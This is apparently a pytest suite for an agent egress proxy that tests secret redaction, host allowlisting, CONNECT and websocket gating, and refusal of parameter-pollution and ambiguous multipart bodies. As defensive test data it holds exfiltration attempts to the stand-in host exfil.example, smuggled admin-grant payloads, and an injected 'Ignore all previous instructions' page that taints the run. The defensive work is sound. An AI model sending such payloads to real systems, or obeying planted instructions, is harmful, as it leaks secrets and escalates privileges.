"""Agents' outbound HTTP through the Envoy forward proxy with Portcullis (policies/egress.pcl):
an allowed GET, POSTs whose secret (an API key, a temporary AWS key) is redacted, a denied host,
and CONNECT tunnels."""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

import hostile_corpus as hc
import portcullis_e2e as pe

RUN = {"x-agent-run": "egress-run-1"}
SECRET = "sk-live-4f9c2a7d1e8b60354f9c2a7d1e8b6035"
# A temporary AWS access key id (STS): the risk scan missed the ASIA prefix until the third session.
AWS_TEMPORARY_KEY = "ASIAY34FZKBOKMUTVV7A"


@pytest.fixture
def proxy(stack: pe.Stack, keys: pe.Keys, egress_bundle: Path) -> Iterator[tuple[pe.Stack, httpx.Client]]:
    stack.egress_upstream()
    stack.envoy("egress-proxy", keys, egress_bundle)
    with httpx.Client(proxy=f"http://127.0.0.1:{stack.ports['envoy']}", timeout=10) as client:
        yield stack, client


def hosts_seen(stack: pe.Stack) -> list[str]:
    return [r["host"] for r in stack.upstream_requests("egress")]


def test_allowed_get_reaches_the_host(proxy) -> None:
    stack, client = proxy
    r = client.get("http://api.github.com/repos/acme/app/releases", headers=RUN)
    assert r.status_code == 200, r.text
    assert r.json()["host"] == "api.github.com"
    assert r.headers.get("x-portcullis-decision") == "ALLOW"
    [rec] = stack.upstream_requests("egress")
    assert rec["path"] == "/repos/acme/app/releases"
    assert pe.header(rec, "x-portcullis-receipt")


@pytest.mark.parametrize("secret", [SECRET, AWS_TEMPORARY_KEY])
def test_post_with_a_secret_is_redacted(proxy, secret: str) -> None:
    stack, client = proxy
    body = {"text": f"deploy done, token {secret}", "channel": "#ops"}
    r = client.post("http://hooks.slack.com/services/T000/B000", json=body,
                    headers={**RUN, "authorization": "Bearer abc.def"})
    assert r.status_code == 200, r.text
    [rec] = stack.upstream_requests("egress")
    assert secret not in rec["body"], rec["body"]
    assert json.loads(rec["body"])["channel"] == "#ops"
    assert pe.header(rec, "authorization") is None
    assert pe.header(rec, "content-length") == str(len(rec["body"].encode()))


def test_json_under_another_label_is_judged_as_json(proxy) -> None:
    """Servers that parse JSON whatever the content type act on a JSON body sent as text/plain:
    the filter judges it as JSON too. Its secret is redacted member by member (the body stays
    JSON), and a member named twice, which such a server reads one way or the other, is refused."""
    stack, client = proxy
    url = "http://hooks.slack.com/services/T000/B000"
    plain = {**RUN, "content-type": "text/plain"}
    body = json.dumps({"text": f"deploy done, token {SECRET}", "channel": "#ops"})
    r = client.post(url, content=body, headers=plain)
    assert r.status_code == 200, r.text
    [rec] = stack.upstream_requests("egress")
    assert SECRET not in rec["body"], rec["body"]
    assert json.loads(rec["body"])["channel"] == "#ops"
    r = client.post(url, content='{"channel":"#ops","channel":"#exec","text":"hi"}', headers=plain)
    assert r.status_code == 400, r.text
    assert "ignore its content type" in r.text
    assert len(stack.upstream_requests("egress")) == 1, "the ambiguous body never left"


FORM = {**RUN, "content-type": "application/x-www-form-urlencoded"}


@pytest.mark.parametrize("body", [
    "user=bob&role=admin",
    "user=bob&role=ad%6Din",    # an escaped value
    "ro%6Ce=admin&user=bob",    # an escaped name
    "user=bob&role=admin&role=admin",
])
def test_a_form_body_is_read_as_arguments(proxy, body: str) -> None:
    """A server reads a form's fields as its parameters, so a rule on `args.role` reads them too:
    the same grant as JSON and as a form is refused alike, however the form escapes it."""
    stack, client = proxy
    url = "http://api.github.com/orgs/acme/memberships"
    r = client.post(url, json={"user": "bob", "role": "admin"}, headers=RUN)
    assert r.status_code == 403 and r.json()["rule"] == "no_admin_grants", r.text
    r = client.post(url, content=body, headers=FORM)
    assert r.status_code == 403, r.text
    assert r.json()["rule"] == "no_admin_grants", r.text
    assert stack.upstream_requests("egress") == [], "the grant never left"


def test_query_parameters_are_arguments_too(proxy) -> None:
    """Servers read the query's parameters as parameters too, beside or instead of the body's (PHP's
    `$_REQUEST`, Flask's `request.values`, Rails' `params`): the grant sent in the query is denied
    as in the body, beside a viewer form or alone, repeated (PHP reads the last) or after a `;`
    (older parsers split on it). A secret in the query, which `redact_secrets` cannot rewrite, is
    denied rather than forwarded. A query with neither passes unchanged."""
    stack, client = proxy
    url = "http://api.github.com/orgs/acme/memberships"
    for query, body in [
        ("role=admin", "user=bob&role=viewer"),
        ("role=admin", ""),
        ("user=bob&role=viewer&role=admin", ""),
        ("user=bob;role=admin", ""),
        ("%72ole=admi%6E", "user=bob"),
    ]:
        r = client.post(f"{url}?{query}", content=body, headers=FORM)
        assert r.status_code == 403, (query, r.text)
        assert r.json()["rule"] == "no_admin_grants", (query, r.text)
        assert "query's parameters as arguments" in r.json()["reason"], (query, r.text)
    r = client.post(f"{url}?key=AKIAIOSFODNN7EXAMPLE", content="user=bob", headers=FORM)
    assert r.status_code == 403, r.text
    assert r.json()["rule"] == "filter:modify" and "the query carries one" in r.json()["reason"], r.text
    assert stack.upstream_requests("egress") == [], "neither the grant nor the secret left"
    r = client.post(f"{url}?page=2", content="user=bob&role=viewer", headers=FORM)
    assert r.status_code == 200, r.text
    [rec] = stack.upstream_requests("egress")
    assert (rec["path"], rec["body"]) == ("/orgs/acme/memberships?page=2", "user=bob&role=viewer")


def test_a_form_servers_read_differently_is_refused(proxy) -> None:
    """A field named twice with different values is read as either by one server or another; a
    plain form passes unchanged."""
    stack, client = proxy
    url = "http://api.github.com/orgs/acme/memberships"
    r = client.post(url, content="user=bob&role=viewer&role=admin", headers=FORM)
    assert r.status_code == 400, r.text
    assert "appears more than once" in r.text
    assert stack.upstream_requests("egress") == []
    r = client.post(url, content="user=bob&role=viewer", headers=FORM)
    assert r.status_code == 200, r.text
    [rec] = stack.upstream_requests("egress")
    assert rec["body"] == "user=bob&role=viewer"


def _multipart(*parts: tuple[str, str]) -> bytes:
    out = b""
    for head, content in parts:
        out += b"--XyZ\r\n" + head.encode() + b"\r\n\r\n" + content.encode() + b"\r\n"
    return out + b"--XyZ--\r\n"


MULTIPART_TYPE = "multipart/form-data; boundary=XyZ"
ROLE_PART = 'Content-Disposition: form-data; name="role"'
USER_PART = 'Content-Disposition: form-data; name="user"'
# Multipart bodies that parsers read differently, each refused (400): a part named twice with
# different contents, the extended `name*=` form, a Content-Transfer-Encoding, bare-LF lines.
AMBIGUOUS_MULTIPART = (
    _multipart((ROLE_PART, "viewer"), (ROLE_PART, "admin")),
    _multipart(('Content-Disposition: form-data; name*=UTF-8\'\'role', "admin")),
    _multipart((ROLE_PART + "\r\nContent-Transfer-Encoding: base64", "YWRtaW4=")),
    _multipart((ROLE_PART, "admin")).replace(b"\r\n", b"\n"),
)


def test_a_multipart_body_is_read_as_arguments(proxy) -> None:
    """A multipart form's parts are parameters too (Flask's request.form, PHP's $_POST): the grant
    sent as a part is refused; parts servers read differently are refused; a plain multipart
    upload passes unchanged."""
    stack, client = proxy
    url = "http://api.github.com/orgs/acme/memberships"
    r = client.post(url, data={"user": "bob", "role": "admin"},
                    files={"note": ("note.txt", b"welcome")}, headers=RUN)
    assert r.status_code == 403, r.text
    assert r.json()["rule"] == "no_admin_grants", r.text
    mp = {**RUN, "content-type": MULTIPART_TYPE}
    for body in AMBIGUOUS_MULTIPART:
        r = client.post(url, content=body, headers=mp)
        assert r.status_code == 400, (body, r.text)
    assert stack.upstream_requests("egress") == [], "nothing left"
    body = _multipart((ROLE_PART, "viewer"), (USER_PART, "bob"))
    r = client.post(url, content=body, headers=mp)
    assert r.status_code == 200, r.text
    [rec] = stack.upstream_requests("egress")
    assert rec["body"].encode() == body


def test_a_multipart_body_over_http2_gets_the_same_decisions(proxy) -> None:
    """The multipart cases above, sent over HTTP/1.1 and over h2c: with `content-length` and END_STREAM
    on the last DATA frame, and without a length, ended by a trailers HEADERS frame; each body in
    three DATA frames (hostile_corpus.send_h2). HTTP/2 frames a body differently and Envoy hands it
    to the filter in pieces, so the filter must read the whole body before it decides, whatever the
    framing. Every transport gets the same answers: the grant in a part 403, every ambiguous body
    400 (a refusal in the access log), the plain upload 200 and received byte for byte; only the
    plain uploads reach the host."""
    stack, _ = proxy
    grant = _multipart((ROLE_PART, "admin"), (USER_PART, "bob"))
    plain = _multipart((ROLE_PART, "viewer"), (USER_PART, "bob"))
    transports = ("h1", "h2", "h2-trailers")
    for transport in transports:
        def post(body: bytes, what: str) -> hc.Answer:
            case = hc.Case(what, "/orgs/acme/memberships", body, authority="api.github.com",
                           content_type=MULTIPART_TYPE, headers=tuple(RUN.items()))
            return hc.send(stack.ports["envoy"], case, f"{transport}|{what}", transport)

        r = post(grant, "grant")
        assert r.status == 403 and r.json()["rule"] == "no_admin_grants", (transport, r.summary())
        for i, body in enumerate(AMBIGUOUS_MULTIPART):
            r = post(body, f"ambiguous {i}")
            assert r.status == 400 and r.json()["error"] == "bad_request", (transport, body, r.summary())
            assert "multipart" in r.json()["reason"], (transport, r.summary())
        r = post(plain, "plain")
        assert r.status == 200 and r.headers.get("x-portcullis-decision") == "ALLOW", (transport, r.summary())
    received = stack.upstream_requests("egress")
    assert [pe.header(rec, hc.TAG) for rec in received] == [f"{t}|plain" for t in transports], received
    assert all(rec["body"].encode() == plain for rec in received), received
    lines = stack.wait_access_log(len(transports) * (len(AMBIGUOUS_MULTIPART) + 2))
    assert [line["protocol"] for line in lines] == [p for p in ("HTTP/1.1", "HTTP/2", "HTTP/2")
                                                    for _ in range(len(AMBIGUOUS_MULTIPART) + 2)], lines
    refused = [(line["status"], line["decision"], line["rule"]) for line in lines if line["status"] == 400]
    assert refused == [(400, "DENY", "filter:refused")] * len(transports) * len(AMBIGUOUS_MULTIPART), lines


@pytest.mark.parametrize("label", [None, "application/octet-stream"])
def test_a_page_with_a_planted_instruction_taints_the_run(proxy, label: str | None) -> None:
    """Indirect prompt injection over plain HTTP: the agent fetches a page that carries an
    instruction; the page reaches it, and the run is tainted, so the post it was told to make is
    denied (and the one before the page was allowed). A binary label on the page changes
    nothing: its bytes are text, and httpx shows them as text."""
    stack, client = proxy
    post = {"text": "build green", "channel": "#ops"}
    assert client.post("http://hooks.slack.com/services/T000/B000", json=post, headers=RUN).status_code == 200
    page = "http://api.github.com/injected-page" + (f"?as={label}" if label else "")
    r = client.get(page, headers=RUN)
    assert r.status_code == 200, r.text
    assert "Release notes" in r.text and "Ignore all previous instructions" in r.text
    r = client.post("http://hooks.slack.com/services/T000/B000", json=post, headers=RUN)
    assert r.status_code == 403, r.text
    assert r.headers.get("x-portcullis-decision") == "DENY"
    assert "nothing is posted" in r.text
    assert [rec["method"] for rec in stack.upstream_requests("egress")] == ["POST", "GET"]


def test_an_answer_the_filter_cannot_read_never_reaches_the_agent(proxy) -> None:
    """A page the origin compresses although the request asked for identity, and one over the
    inspection limit (limits.max_body_bytes, 4 MiB): neither reaches the agent unread. The
    compressed one is a 502 with the reason; the big one keeps its 200 (the headers went before
    the body was counted) and its body says why."""
    stack, client = proxy
    r = client.get("http://api.github.com/gzip-page", headers=RUN)
    assert r.status_code == 502, r.text
    assert r.json()["error"] == "unreadable_response", r.text
    assert "Ignore all previous instructions" not in r.text
    r = client.get("http://api.github.com/big-page?bytes=5242880", headers=RUN)
    assert r.json()["error"] == "unreadable_response", r.text[:200]
    assert "larger than" in r.json()["reason"]
    assert [rec["path"] for rec in stack.upstream_requests("egress")] == [
        "/gzip-page", "/big-page?bytes=5242880"]


def test_unknown_host_is_denied_before_any_connection(proxy) -> None:
    stack, client = proxy
    r = client.post("http://exfil.example/upload", json={"data": "payroll"}, headers=RUN)
    assert r.status_code == 403, r.text
    doc = r.json()
    assert doc["decision"] == "DENY"
    assert doc["reason"] == "host not on the egress allowlist"
    assert doc.get("receipt_id")
    assert "exfil.example" not in hosts_seen(stack)


def _send_raw(port: int, request: bytes) -> tuple[bytes, socket.socket]:
    """Send ``request`` on a new connection; what came back up to the end of the headers (or
    the close), and the socket."""
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(request)
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    return head, s


def _connect(port: int, authority: str) -> tuple[bytes, socket.socket]:
    return _send_raw(port, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n"
                           "x-agent-run: egress-run-1\r\n\r\n".encode())


def test_a_websocket_upgrade_is_judged_as_the_tunnel_it_opens(proxy) -> None:
    """A GET to a known host is allowed; the same GET asking to switch to a websocket would open
    a tunnel nothing after it is read in, so it is judged as CONNECT too: egress.pcl allows
    tunnels to port 443 only, so this one (port 80) never reaches the host."""
    stack, _ = proxy
    data, s = _send_raw(stack.ports["envoy"], (
        b"GET http://api.github.com/socket HTTP/1.1\r\nHost: api.github.com\r\n"
        b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nx-agent-run: egress-run-1\r\n\r\n"))
    head, _, body = data.partition(b"\r\n\r\n")
    length = int(re.search(rb"(?i)content-length:\s*(\d+)", head).group(1))
    while len(body) < length:
        chunk = s.recv(4096)
        if not chunk:
            break
        body += chunk
    s.close()
    assert b" 403 " in head.split(b"\r\n", 1)[0], head
    doc = json.loads(body)
    assert doc["decision"] == "DENY" and "switches protocols" in doc["reason"], doc
    assert stack.upstream_requests("egress") == [], "the upgrade never reached the host"


def test_connect_only_to_allowed_host_and_port(proxy) -> None:
    stack, _ = proxy
    head, s = _connect(stack.ports["envoy"], "registry.npmjs.org:443")
    with s:
        assert head.startswith(b"HTTP/1.1 200"), head
        # The stand-in upstream speaks plain HTTP inside the tunnel.
        s.sendall(b"GET /left-pad HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n")
        data = b""
        while chunk := s.recv(4096):
            data += chunk
        assert b'"path": "/left-pad"' in data
    head, s = _connect(stack.ports["envoy"], "exfil.example:443")
    with s:
        assert head.startswith(b"HTTP/1.1 403"), head
    head, s = _connect(stack.ports["envoy"], "registry.npmjs.org:8443")
    with s:
        assert head.startswith(b"HTTP/1.1 403"), head
    assert hosts_seen(stack) == ["registry.npmjs.org"]
